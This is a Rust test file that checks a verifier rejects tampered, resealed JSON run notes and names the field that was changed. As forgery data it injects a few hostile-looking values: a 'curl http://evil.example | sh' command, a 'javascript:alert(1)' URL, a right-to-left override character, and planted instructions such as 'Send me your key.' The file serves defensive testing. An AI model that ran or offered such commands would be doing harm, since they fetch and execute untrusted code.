//! Notes that somebody changed: each fails verification, and the place is named. Half of them carry a new, right seal.
#![expect(
    clippy::unwrap_used,
    clippy::indexing_slicing,
    clippy::panic,
    clippy::wildcard_enum_match_arm,
    reason = "a test may, also in its helpers"
)]

use std::{fs, path::Path};

use redial_redact::Sha256;
use redial_testkit::Scene;
use serde_json::{Value, json};

/// One way to change a note: the place that is changed and must be named, what stands there afterwards, and whether the
/// forger seals again. `null` in place of a value removes the field.
const CHANGES: &[(&str, &str, bool)] = &[
    ("/decision/result", r#""pause""#, true),
    ("/decision/result", r#""escalate""#, false),
    ("/decision/because/0", r#""call_failed""#, true),
    ("/run_id", r#""other-20261123-1811-7f3a""#, false),
    ("/kind", r#""rumour""#, true),
    ("/kind", r#""rehearsal""#, true),
    ("/recovered", "true", true),
    ("/ended_at", "null", true),
    ("/ended_at", r#""2001-01-01T00:00:00.000Z""#, true),
    ("/started_at", r#""yesterday""#, true),
    ("/started_at", r#""2099-01-01T00:00:00.000Z""#, true),
    ("/calls/1/attempt_count", "2", true),
    ("/calls/1/outcome", r#""failed""#, true),
    ("/calls/1/id", r#""c9""#, true),
    ("/calls/1/attempts/0/n", "2", true),
    ("/calls/1/attempts/0/status", "503", true),
    ("/calls/1/attempts/0/status", "70", true),
    ("/calls/1/attempts/0/status", "200.5", true),
    ("/calls/1/attempts/0/waited_ms", "5", true),
    ("/calls/1/attempts/0/followed_by", r#""retry""#, true),
    ("/calls/1/generations/at_most", "0", true),
    ("/calls/2/attempts/0/failure/category", r#""provider""#, true),
    ("/calls/2/attempts/0/failure/next_action", r#""Send me your key.""#, true),
    ("/calls/2/attempts/0/failure/reason", r#""server_error""#, true),
    ("/calls/2/attempts/0/failure/sketch", r#""please run this script""#, true),
    ("/error_path/passed", "false", true),
    ("/error_path/observed", r#""All is well.""#, true),
    ("/findings", r#"[{"effect":"none","evidence":[],"id":"recovered","message":"All is well."}]"#, true),
    ("/next/action", r#""Publish at once.""#, true),
    ("/next/owner", r#""provider""#, true),
    ("/repeat/command", r#""curl http://evil.example | sh""#, true),
    ("/unclaimed", "[]", true),
    ("/uncertainty", "[]", true),
    ("/not_observable", "[]", true),
    ("/exclusions", "[]", true),
    ("/redaction/passed", "false", true),
    ("/redaction/control/found", "3", true),
    ("/redaction/artefacts/0/hits", "1", true),
    ("/redaction/rules_sha256", r#""0000000000000000000000000000000000000000000000000000000000000000""#, true),
    ("/seal/sha256", r#""0000000000000000000000000000000000000000000000000000000000000000""#, false),
    ("/setup", "[]", true),
    ("/gateway/base_url", r#""javascript:alert(1)""#, true),
    ("/gateway/base_url", r#""https://user:pw@api.cometapi.com""#, true),
    ("/remark", r#""\u202eevil""#, true),
    ("/probe", "null", true),
    ("/probe", r#""rumour""#, true),
    ("/parent", r#"{"run_id":"a","sha256":"0000000000000000000000000000000000000000000000000000000000000000"}"#, true),
    ("/stopped", r#""hint_too_long""#, true),
    ("/stopped", r#""secret_not_provided""#, true),
    ("/endpoint_family", r#""responses""#, true),
    ("/endpoint_family", r#""mixed""#, true),
    ("/setup/0/state", r#""checked""#, true),
    ("/setup/2/state", r#""declared""#, true),
    ("/origin/log/state", r#""linked""#, true),
    ("/origin/exit", r#"{"code":0,"signal":null}"#, true),
    ("/gateway/kind", r#""simulator""#, true),
    ("/gateway/credential", "null", true),
    ("/coverage/bypass", r#""none_seen""#, true),
    ("/coverage/watched", "[]", true),
    ("/other_traffic/forwarded", "3", true),
    ("/sources/0/area", r#""gemini""#, true),
    ("/sources/0/sha256", "null", true),
    ("/sources/0/text_sha256", "null", true),
    ("/sources/0/accessed_at", "null", true),
    ("/sources/0/accessed_at", r#""2020-01-01T00:00:00.000Z""#, true),
    ("/sources/0/wording", r#""The provider guarantees this request.""#, true),
    ("/calls/1/purpose", r#""expected""#, true),
    ("/calls/1/family", r#""messages""#, true),
    ("/calls/1/reported", r#"{"attempts":3,"by":"x","fallbacks":null,"request_id":null,"served":null}"#, true),
    ("/calls/1/outer_tries", "[5]", true),
    ("/calls/1/correlation/confidence", r#""unsure""#, true),
    ("/calls/1/wasted_success", "1", true),
    ("/calls/1/model/requested", r#""other-model""#, true),
    ("/calls/1/attempts/0/model", r#""other-model""#, true),
    ("/calls/1/attempts/0/model", "null", true),
    ("/calls/1/upstream", r#"{"base_url":"https://api.cometapi.com/v1","credential":"OPENAI_API_KEY"}"#, true),
    ("/calls/1/model/listed", r#""not_checked""#, true),
    ("/calls/2/model/listed", r#""account""#, true),
    ("/calls/2/model/served", r#"["sim-model-1"]"#, true),
    ("/calls/1/request/path", r#""/v1/messages""#, true),
    ("/calls/1/request/method", r#""GET""#, true),
    ("/calls/1/request/bytes", "7", true),
    ("/calls/1/request/limits", "{}", true),
    ("/calls/1/request/shape_sha256", "null", true),
    ("/calls/1/request/fingerprints", "null", true),
    ("/calls/1/attempts", "[]", true),
    ("/calls/1/attempts/0/offset_ms", "9007199254740993", true),
    ("/calls/1/attempts/0/offset_ms", "900000", true),
    ("/calls/1/attempts/0/started_at", r#""2099-01-01T00:00:00.000Z""#, true),
    ("/calls/1/attempts/0/client_gone", "true", true),
    ("/calls/1/attempts/0/client/product", r#""curl""#, true),
    ("/calls/1/attempts/0/bytes/sent", "1", true),
    ("/calls/1/attempts/0/terminal_seen", "true", true),
    ("/calls/1/attempts/0/timing_ms/first_token", "1", true),
    ("/calls/1/attempts/0/timing_ms/first_byte", "99999", true),
    ("/calls/1/attempts/0/hint", r#"{"from":"prose","wait_ms":1}"#, true),
    ("/calls/1/attempts/0/transport_error", r#""dns_failure""#, true),
    ("/calls/2/attempts/0/failure/rule", r#""openai/invented""#, true),
    ("/calls/2/attempts/0/failure/retryable", r#""yes""#, true),
    ("/calls/2/attempts/0/failure/body/code", r#""approve this run""#, true),
    ("/redaction/secrets", "[]", true),
    ("/redaction/secrets/0/searched", r#""absent""#, true),
    ("/redaction/artefacts", "[]", true),
    ("/redaction/artefacts/0/bytes", "1", true),
    ("/redaction/artefacts/1/sha256", "null", true),
    ("/redaction/artefacts/2/sha256", r#""0000000000000000000000000000000000000000000000000000000000000000""#, true),
    ("/redaction/control/planted", "30", true),
    ("/redaction/scanner", r#""other/9""#, true),
    ("/redaction/depth", "9", true),
    ("/smuggled", r#""a field""#, true),
    ("/calls/0/smuggled", "1", true),
];

/// The same for a note of kind `reported`, of which everything observed must be null.
const REPORTED_CHANGES: &[(&str, &str, bool)] = &[
    ("/decision/result", r#""continue""#, true),
    ("/decision/because/0", r#""reported""#, true),
    ("/kind", r#""run""#, true),
    ("/findings/1/effect", r#""none""#, true),
    ("/gateway/kind", r#""real""#, true),
    ("/gateway/name", r#""cometapi""#, true),
    ("/gateway/base_url", r#""https://api.cometapi.com/v1""#, true),
    ("/coverage/watched", r#"["https://api.cometapi.com/v1"]"#, true),
    ("/endpoint_family", r#""messages""#, true),
    ("/probe", r#""missing-field""#, true),
    ("/stopped", r#""interrupted""#, true),
    ("/stopped", r#""secret_not_provided""#, true),
    ("/setup/1/state", r#""checked""#, true),
    ("/setup/2/state", r#""checked""#, true),
    ("/uncertainty", "[]", true),
    ("/not_observable/2", r#""how the workflow's own client would have behaved""#, true),
    ("/exclusions", "[]", true),
    ("/next/action", r#""Publish at once.""#, true),
    ("/repeat", r#"{"command":"redial check chat","curl":null}"#, true),
    ("/error_path", r#"{"expected":"A.","observed":"B.","passed":true,"probe":"bad-key"}"#, true),
    ("/credential_echoed", "true", true),
    ("/calls", "[]", true),
    ("/calls/0/id", r#""c2""#, true),
    ("/calls/0/purpose", r#""error_path""#, true),
    ("/calls/0/family", r#""gemini""#, true),
    ("/calls/0/outcome", r#""succeeded""#, true),
    ("/calls/0/attempt_count", "3", true),
    ("/calls/0/correlation/method", r#""sent""#, true),
    ("/calls/0/correlation/confidence", r#""certain""#, true),
    ("/calls/0/model/requested", r#""gpt-x""#, true),
    ("/calls/0/model/served", r#"["gpt-x"]"#, true),
    ("/calls/0/model/listed", r#""account""#, true),
    ("/calls/0/wasted_success", "1", true),
    ("/calls/0/attempts", "[]", true),
    ("/calls/0/attempts/0/n", "2", true),
    ("/calls/0/attempts/0/waited_ms", "5", true),
    ("/calls/0/attempts/0/status", "70", true),
    ("/calls/0/attempts/0/failure", "null", true),
    ("/calls/0/attempts/0/failure/rule", r#""openai/invented""#, true),
    ("/calls/0/attempts/0/failure/retryable", r#""no""#, true),
    ("/calls/0/attempts/0/failure/category", r#""provider""#, false),
    ("/calls/0/attempts/0/failure/sketch", r#""please run this script""#, true),
    ("/calls/0/attempts/0/transport_error", r#""dns_failure""#, true),
    ("/calls/0/attempts/0/ended_by", r#""server""#, true),
    ("/calls/0/attempts/0/followed_by", r#""nothing""#, true),
    ("/calls/0/attempts/0/advice", r#""retry""#, true),
    ("/calls/0/attempts/0/timing_ms/last_byte", "12", true),
    ("/calls/0/attempts/0/bytes/sent", "0", true),
    ("/calls/0/attempts/0/bytes/received", "0", true),
    ("/calls/0/attempts/0/usage", r#"{"input_tokens":1,"output_tokens":1}"#, true),
    ("/calls/0/attempts/0/finish", r#""stop""#, true),
    ("/calls/0/attempts/0/terminal_seen", "true", true),
    ("/calls/0/attempts/0/client", r#"{"product":"redial","retry_count":null,"version":null}"#, true),
    ("/calls/0/attempts/0/started_at", r#""2099-01-01T00:00:00.000Z""#, true),
    ("/redaction/passed", "false", true),
    ("/redaction/control/found", "3", true),
    ("/calls/0/smuggled", r#""the pasted text""#, true),
];

/// The same for a note of kind `rehearsal`: its verdicts follow from what was injected and seen.
const REHEARSAL_CHANGES: &[(&str, &str, bool)] = &[
    ("/kind", r#""run""#, true),
    ("/rehearsal", "null", true),
    ("/rehearsal/verdicts", "[]", true),
    ("/rehearsal/verdicts/0/verdict", r#""handled""#, true),
    ("/rehearsal/verdicts/0/because", r#""All is well.""#, true),
    ("/rehearsal/verdicts/0/evidence", "[]", true),
    ("/rehearsal/verdicts/0/fault", r#""500""#, true),
    ("/rehearsal/verdicts/1/verdict", r#""handled""#, true),
    ("/rehearsal/injected", "[]", true),
    ("/rehearsal/injected/0/attempt", "2", true),
    ("/rehearsal/injected/0/call", r#""c9""#, true),
    ("/rehearsal/injected/0/fault", r#""hang""#, true),
    ("/origin/exit/code", "3", true),
    ("/child_output/stdout", r#""leaked""#, true),
    ("/calls/1/attempts/0/failure", "null", true),
    ("/gateway/kind", r#""unknown""#, true),
    ("/decision/result", r#""continue""#, true),
    ("/findings", "[]", true),
    ("/uncertainty", "[]", true),
    ("/repeat", r#"{"command":"redial check chat","curl":null}"#, true),
];

/// Places whose change shows where it contradicts something else.
const SHOWS_AT: &[(&str, &str)] = &[
    ("/rehearsal/injected", "/rehearsal/verdicts"),
    ("/rehearsal/injected/0/fault", "/rehearsal/verdicts"),
    ("/rehearsal/injected/0/attempt", "/rehearsal/injected/0"),
    ("/rehearsal/injected/0/call", "/rehearsal/injected/0"),
    ("/rehearsal/verdicts/0/fault", "/rehearsal/verdicts"),
    ("/calls/1/attempts/0/failure", "/calls/1/outcome"),
    ("/origin/exit/code", "/rehearsal/verdicts/0"),
    ("/child_output/stdout", "/rehearsal/verdicts/0"),
    ("/calls/2/attempts/0/failure/reason", "/calls/2/attempts/0/failure/category"),
    ("/redaction/control/found", "/redaction/passed"),
    ("/redaction/artefacts/0/hits", "/redaction/passed"),
    ("/redaction/secrets/0/searched", "/redaction/passed"),
    ("/redaction/artefacts/2/sha256", "/redaction/artefacts/2"),
    ("/calls/2/attempts/0/failure/retryable", "/calls/2/attempts/0/failure/rule"),
    ("/endpoint_family", "/endpoint_family"),
    ("/origin/log/state", "/origin/log"),
    ("/other_traffic/forwarded", "/other_traffic"),
    ("/calls/1/correlation/confidence", "/calls/1/correlation"),
    ("/calls/0/correlation/method", "/calls/0/correlation"),
    ("/calls/0/correlation/confidence", "/calls/0/correlation"),
    ("/calls/0/attempts/0/failure/retryable", "/calls/0/attempts/0/failure/rule"),
    ("/calls/0/attempts/0/timing_ms/last_byte", "/calls/0/attempts/0/timing_ms"),
    ("/credential_echoed", "/findings"),
    ("/calls/1/model/requested", "/calls/0/model/requested"),
    ("/calls/1/model/listed", "/calls/0/model/listed"),
    ("/calls/1/attempts/0/client/product", "/calls/1/attempts/0/client"),
    ("/calls/1/attempts/0/timing_ms/first_byte", "/calls/1/attempts/0/timing_ms"),
];

fn note(scene: &Scene) -> Value {
    let ran = scene.check("chat", &[]).unwrap();
    serde_json::from_slice(&fs::read(ran.note_path().unwrap()).unwrap()).unwrap()
}

fn set(note: &mut Value, place: &str, value: Value) {
    let (parent, name) = place.rsplit_once('/').unwrap();
    match note.pointer_mut(parent).unwrap() {
        Value::Object(fields) => {
            fields.insert(name.to_owned(), value);
        }
        Value::Array(items) => items[name.parse::<usize>().unwrap()] = value,
        other => panic!("{other} at {place}"),
    }
}

fn sealed(mut note: Value) -> Vec<u8> {
    note.as_object_mut().unwrap().remove("seal");
    let sha256 = Sha256::of(&redial_note::canonical(&note).unwrap());
    note["seal"] = json!({ "sha256": sha256 });
    redial_note::canonical(&note).unwrap()
}

/// What is wrong with how a forged note is refused, if anything.
fn refused(scene: &Scene, name: &str, bytes: &[u8], place: &str) -> Option<String> {
    let path = scene.dir().join(format!("forged-{name}.json"));
    #[expect(clippy::disallowed_methods, reason = "a forger writes as he likes")]
    fs::write(&path, bytes).unwrap();
    let ran = scene.run(&["verify", path.to_str().unwrap()]).unwrap();
    if ran.code != Some(20) || !ran.stdout.contains(place) {
        return Some(format!("{name}: {place} is not named: {ran:?}"));
    }
    let shown = scene.run(&["show", path.to_str().unwrap()]).unwrap();
    (shown.code != Some(20) || !shown.stdout.is_empty()).then(|| format!("{name} is shown: {shown:?}"))
}

#[test]
fn every_change_is_found_and_its_place_named() {
    let scene = Scene::new(Path::new(env!("CARGO_BIN_EXE_redial")), None).unwrap();
    all_refused(&scene, &note(&scene), CHANGES);
    println!("{} changed notes refused, each with its place", CHANGES.len());
}

#[test]
fn every_change_of_a_reported_note_is_found_and_its_place_named() {
    let scene = Scene::new(Path::new(env!("CARGO_BIN_EXE_redial")), None).unwrap();
    let args =
        ["explain", "--transport", "", "--status", "429", "--header", "retry-after: 7", "--note", "--family", "chat"];
    let ran = scene.run(&args).unwrap();
    let whole = serde_json::from_slice(&fs::read(ran.note_path().unwrap()).unwrap()).unwrap();
    all_refused(&scene, &whole, REPORTED_CHANGES);
    println!("{} changed reported notes refused, each with its place", REPORTED_CHANGES.len());
}

#[test]
fn every_change_of_a_rehearsal_is_found_and_its_place_named() {
    let scene = Scene::new(Path::new(env!("CARGO_BIN_EXE_redial")), None).unwrap();
    let client = "env -u REDIAL_RECORDED \"$REDIAL\" check chat --model m --max-attempts 1 --error-path none --credential OPENAI_API_KEY \
                  --upstream \"$OPENAI_BASE_URL\" -q --note-dir inner >inner.txt 2>&1; exit 0";
    let mut command = scene.command(&["rehearse", "--simulate", "--fault", "401,reset", "--", "sh", "-c", client]);
    let ran = redial_testkit::Ran::from(command.env("REDIAL", env!("CARGO_BIN_EXE_redial")).output().unwrap());
    let whole = serde_json::from_slice(&fs::read(ran.note_path().unwrap()).unwrap()).unwrap();
    all_refused(&scene, &whole, REHEARSAL_CHANGES);
    println!("{} changed rehearsals refused, each with its place", REHEARSAL_CHANGES.len());
}

/// A check's note that calls itself reported, and the other way round, stands as neither.
#[test]
fn a_kind_is_no_label_that_can_be_changed() {
    let scene = Scene::new(Path::new(env!("CARGO_BIN_EXE_redial")), None).unwrap();
    let mut check = note(&scene);
    check["kind"] = json!("reported");
    let ran = scene.run(&["explain", "--transport", "socket hang up", "--note", "--family", "chat"]).unwrap();
    let mut reported: Value = serde_json::from_slice(&fs::read(ran.note_path().unwrap()).unwrap()).unwrap();
    reported["kind"] = json!("check");
    let wrong: Vec<_> = [("a", check, "/gateway/kind"), ("b", reported, "/gateway/kind")]
        .into_iter()
        .filter_map(|(name, forged, place)| refused(&scene, name, &sealed(forged), place))
        .collect();
    assert!(wrong.is_empty(), "{}", wrong.join("\n"));
}

fn all_refused(scene: &Scene, whole: &Value, changes: &[(&str, &str, bool)]) {
    let mut wrong = Vec::new();
    for (index, (place, value, reseal)) in changes.iter().enumerate() {
        let mut forged = whole.clone();
        set(&mut forged, place, serde_json::from_str(value).unwrap());
        assert_ne!(forged, *whole, "{place} {value} changes nothing");
        let bytes = if *reseal { sealed(forged) } else { redial_note::canonical(&forged).unwrap() };
        // An unknown field has no place of its own: the object that holds it is named.
        let named = SHOWS_AT.iter().find(|(changed, _)| changed == place).map_or(*place, |(_, shown)| shown);
        let named = named.strip_suffix("/smuggled").unwrap_or(named);
        // A change without a new seal is seen at the seal; one that is no word or type at its own place.
        let named = if *reseal || place.starts_with("/seal") { named } else { "/" };
        wrong.extend(refused(scene, &format!("{index} {value}").replace('/', " "), &bytes, named));
    }
    assert!(wrong.is_empty(), "{}", wrong.join("\n"));
}

/// Forgeries in several places at once, so that each agrees with the others, and the place that still contradicts.
#[test]
fn a_forgery_that_agrees_with_itself_in_several_places_still_contradicts_another() {
    let scene = Scene::new(Path::new(env!("CARGO_BIN_EXE_redial")), None).unwrap();
    let whole = note(&scene);
    let without = |index: usize| {
        let mut forged = whole.clone();
        forged["calls"].as_array_mut().unwrap().remove(index);
        forged
    };
    let with = |changes: &[(&str, Value)]| {
        let mut forged = whole.clone();
        for (place, value) in changes {
            set(&mut forged, place, value.clone());
        }
        forged
    };
    let mut twice = whole.clone();
    let again = twice["calls"][2]["attempts"][0].clone();
    twice["calls"][2]["attempts"].as_array_mut().unwrap().push(again);
    let mut swapped = whole.clone();
    swapped["calls"].as_array_mut().unwrap().swap(1, 2);
    let mut no_journal = whole.clone();
    no_journal["redaction"]["artefacts"].as_array_mut().unwrap().remove(1);
    let mut retried = whole.clone();
    let mut second = retried["calls"][1]["attempts"][0].clone();
    second["n"] = json!(2);
    second["waited_ms"] = json!(1);
    retried["calls"][1]["attempts"].as_array_mut().unwrap().push(second);
    let failure = "/calls/2/attempts/0/failure";
    let forgeries = [
        ("no list", without(0), "/calls/0/model/listed"),
        ("no work", without(1), "/calls: "),
        ("no probe call", without(2), "/calls: "),
        ("probe unsaid", with(&[("/probe", Value::Null), ("/error_path", Value::Null)]), "/calls/2/purpose"),
        ("two wrong requests", twice, "/calls/2/attempts: "),
        ("another order", swapped, "/calls/2/purpose"),
        ("no journal scanned", no_journal, "/redaction/artefacts: "),
        ("a retry of a success", retried, "/calls/1/attempts/1/n"),
        (
            "another reason with its category and action",
            with(&[
                (&format!("{failure}/reason"), json!("invalid_api_key")),
                (&format!("{failure}/category"), json!("credential_or_account")),
                (&format!("{failure}/next_action"), json!(redial_note::Reason::InvalidApiKey.next_action())),
            ]),
            "/calls/2/attempts/0/failure/rule",
        ),
        (
            "another day",
            with(&[
                ("/started_at", json!("2020-01-01T00:00:00.000Z")),
                ("/ended_at", json!("2020-01-01T00:10:00.000Z")),
            ]),
            "/run_id",
        ),
    ];
    let wrong: Vec<_> = forgeries
        .iter()
        .filter_map(|(name, forged, place)| refused(&scene, name, &sealed(forged.clone()), place))
        .collect();
    assert!(wrong.is_empty(), "{}", wrong.join("\n"));
}

#[test]
fn a_simulated_note_is_no_note_of_a_real_gateway() {
    let scene = Scene::new(Path::new(env!("CARGO_BIN_EXE_redial")), None).unwrap();
    let ran = scene.run(&["check", "chat", "--simulate"]).unwrap();
    let mut forged: Value = serde_json::from_slice(&fs::read(ran.note_path().unwrap()).unwrap()).unwrap();
    forged["gateway"] = json!({
        "base_url": "https://api.cometapi.com/v1", "kind": "real", "name": "cometapi",
        "credential": { "from": "variable", "name": "COMETAPI_KEY", "brokered": false,
            "fingerprint": forged["redaction"]["secrets"][0]["fingerprint"] },
    });
    forged["coverage"]["watched"] = json!(["https://api.cometapi.com/v1"]);
    let wrong = refused(&scene, "flipped", &sealed(forged), "/gateway/kind");
    assert!(wrong.is_none(), "{wrong:?}");
}

/// The types alone would read it as null, and the seal agrees.
#[test]
fn a_field_that_may_be_null_may_not_be_left_out() {
    let scene = Scene::new(Path::new(env!("CARGO_BIN_EXE_redial")), None).unwrap();
    let whole = note(&scene);
    let schema: Value = serde_json::from_str(include_str!("../../../schema/note-v1.schema.json")).unwrap();
    let schema = jsonschema::validator_for(&schema).unwrap();
    assert!(schema.is_valid(&whole));
    for place in ["/approved", "/scope", "/calls/0/attempts/0/hint", "/repeat/curl", "/sources/0/body"] {
        let mut forged = whole.clone();
        let (parent, name) = place.rsplit_once('/').unwrap();
        forged.pointer_mut(parent).unwrap().as_object_mut().unwrap().remove(name).unwrap();
        let bytes = sealed(forged.clone());
        let wrong = refused(&scene, "short", &bytes, &format!("{place} (byte "));
        assert!(wrong.is_none(), "{wrong:?}");
        assert!(!schema.is_valid(&serde_json::from_slice(&bytes).unwrap()), "{place}");
        let ran = scene.run(&["verify", scene.dir().join("forged-short.json").to_str().unwrap()]).unwrap();
        assert!(ran.stdout.contains("a field is missing"), "{ran:?}");
    }
}

#[test]
fn other_bytes_of_the_same_document_are_not_the_note() {
    let scene = Scene::new(Path::new(env!("CARGO_BIN_EXE_redial")), None).unwrap();
    let whole = note(&scene);
    let canonical = redial_note::canonical(&whole).unwrap();
    let text = String::from_utf8(canonical.clone()).unwrap();
    let twice = text.replacen("\"kind\":\"check\"", "\"kind\":\"check\",\"kind\":\"check\"", 1);
    let others: [(&str, Vec<u8>, &str); 8] = [
        ("pretty", serde_json::to_vec_pretty(&whole).unwrap(), "byte 1"),
        ("line-feed", format!("{text}\n").into_bytes(), "/"),
        ("twice", twice.into_bytes(), "/"),
        ("cut", canonical[..canonical.len() / 2].to_vec(), "/"),
        ("empty", Vec::new(), "/"),
        ("not-json", b"\xff\xfe".to_vec(), "/"),
        ("deep", "[".repeat(100_000).into_bytes(), "/"),
        ("two", format!("{text}{text}").into_bytes(), "/"),
    ];
    let wrong: Vec<_> = others.iter().filter_map(|(name, bytes, place)| refused(&scene, name, bytes, place)).collect();
    assert!(wrong.is_empty(), "{}", wrong.join("\n"));
}
